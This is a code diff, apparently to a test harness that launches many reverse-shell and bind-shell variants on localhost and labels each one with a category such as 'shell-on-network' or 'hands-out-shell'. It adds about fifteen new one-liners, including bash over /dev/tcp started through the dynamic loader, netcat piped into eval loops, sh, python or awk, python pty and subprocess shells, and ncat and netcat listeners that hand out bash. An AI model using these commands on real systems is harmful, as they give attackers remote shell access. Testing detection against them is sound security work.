@@ -48,6 +48,10 @@ PERL_SHELL = "open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec
 NODE_SHELL = "const c=require(\"child_process\").spawn(\"/bin/sh\",[]);s.pipe(c.stdin);c.stdout.pipe(s);"
 LUA = "local s=require(\"socket\");"
 GAWK = ("while((s|&getline c)>0){{while((c|&getline l)>0)print l|&s;close(c)}}")
+LOADER = next(pathlib.Path("/").glob("lib*/ld-linux-*.so*"), pathlib.Path("/lib/ld.so")).resolve()
+EVALUATE = "while read -r l; do eval \"$l\"; done"
+SCRIPT = ("exec /usr/bin/python3 -c \"import socket,{module};s=socket.create_connection(('127.0.0.1',{{port}}));"
+          "{call}\"")
 TCL = ("set s [socket 127.0.0.1 {port}];fconfigure $s -buffering line;"
        "fileevent $s readable {{gets $s c;puts $s [exec sh -c $c]}};vwait forever\n")
 
@@ -126,6 +130,32 @@ REVERSE = [
         "shell-behind-relay", "busybox"),
     Way("a coprocess", "coproc nc.openbsd 127.0.0.1 {port}; exec sh <&${{COPROC[0]}} >&${{COPROC[1]}}",
         "shell-behind-relay", "dash"),
+    Way("bash by the loader", "exec 5<>/dev/tcp/127.0.0.1/{port}; exec {loader} /bin/bash -i <&5 >&5 2>&5 5>&-",
+        "shell-on-network", LOADER.name),
+    Way("a loop that evaluates", "nc.openbsd 127.0.0.1 {port} <{fifo}|bash -c '" + EVALUATE + "' >{fifo} 2>&1",
+        "shell-behind-relay", "bash"),
+    Way("standard input as a script", "nc.openbsd 127.0.0.1 {port} <{fifo}|sh /dev/stdin >{fifo} 2>&1",
+        "shell-behind-relay", "dash"),
+    Way("a word for the shell", "nc.openbsd 127.0.0.1 {port} <{fifo}|sh -s disksup >{fifo} 2>&1",
+        "shell-behind-relay", "dash"),
+    Way("two cats", "nc.openbsd 127.0.0.1 {port} <{fifo}|cat|cat|sh >{fifo} 2>&1", "shell-behind-relay", "dash"),
+    Way("python's prompt", "nc.openbsd 127.0.0.1 {port} <{fifo}|/usr/bin/python3 -i >{fifo} 2>&1",
+        "program-behind-relay", "python3.11"),
+    Way("awk", "nc.openbsd 127.0.0.1 {port} <{fifo}|mawk -W interactive '{{system($0)}}' >{fifo} 2>&1",
+        "program-behind-relay", "mawk"),
+    Way("xargs", "nc.openbsd 127.0.0.1 {port} <{fifo}|xargs -I% sh -c % >{fifo} 2>&1", "program-behind-relay",
+        "xargs"),
+    Way("a tool on a connection", "(exec 5<>/dev/tcp/127.0.0.1/{port}; exec busybox vi <&5 >&5 2>&5 5>&-); :",
+        "program-on-network", "busybox"),
+    Way("script between python's pipes", SCRIPT.format(
+        module="subprocess as p", call="p.Popen(['script','-qc','bash','/dev/null'],stdin=p.PIPE,stdout=p.PIPE).wait()"),
+        "shell-on-remote-terminal", "bash"),
+    Way("script in python's terminal", SCRIPT.format(
+        module="pty", call="pty.spawn(['script','-qc','bash','/dev/null'],master_read=lambda f:s.recv(9))"),
+        "shell-on-remote-terminal", "bash"),
+    Way("a client's connection in its child", SCRIPT.format(
+        module="subprocess as p", call="p.call(['bash','-c','while read -r -u %d l; do eval \\$l; done'%s.fileno()],"
+        "pass_fds=[s.fileno()])"), "shell-holds-connection", "bash"),
     Way("script between pipes", "nc.openbsd 127.0.0.1 {port} <{fifo}|script -qc bash /dev/null >{fifo} 2>&1",
         "shell-on-remote-terminal", "bash"),
     Way("expect", "exec expect -c 'spawn nc.openbsd 127.0.0.1 {port}; spawn bash; sleep 1000'",
@@ -153,6 +183,10 @@ BIND = [
         "inline-code-on-network", "gawk", bind=True, connect=False),
     Way("nc -l -e waits", "exec nc.traditional -l -p {own} -s 127.0.0.1 -e /bin/sh", "hands-out-shell",
         "nc.traditional", bind=True, connect=False),
+    Way("nc -l -c attached waits", "exec nc.traditional -l -p {own} -s 127.0.0.1 '-csh -i'", "hands-out-shell",
+        "nc.traditional", bind=True, connect=False),
+    Way("ncat -lkc attached waits", "exec ncat -lkc'bash -i' 127.0.0.1 {own}", "hands-out-shell", "ncat", bind=True,
+        connect=False),
     Way("ncat -k -e serves", "exec ncat -lk 127.0.0.1 {own} -e /bin/bash", "shell-behind-relay", "bash",
         bind=True),
     Way("openbsd's nc -l and a fifo", "cat {fifo}|sh -i 2>&1|nc.openbsd -lN 127.0.0.1 {own} >{fifo}",
@@ -238,7 +272,7 @@ def start(way, folder, number, program):
     if "{fifo}" in way.command:
         os.mkfifo(fifo)
         witness.at_end(os.unlink, fifo)
-    words = {"port": port, "own": own, "fifo": fifo, "c": program}
+    words = {"port": port, "own": own, "fifo": fifo, "c": program, "loader": LOADER}
     process = attacks.start(sh(way.command.format(**words)), cwd=folder,
                             stdin=subprocess.PIPE if way.feed else subprocess.DEVNULL)
     if way.feed:
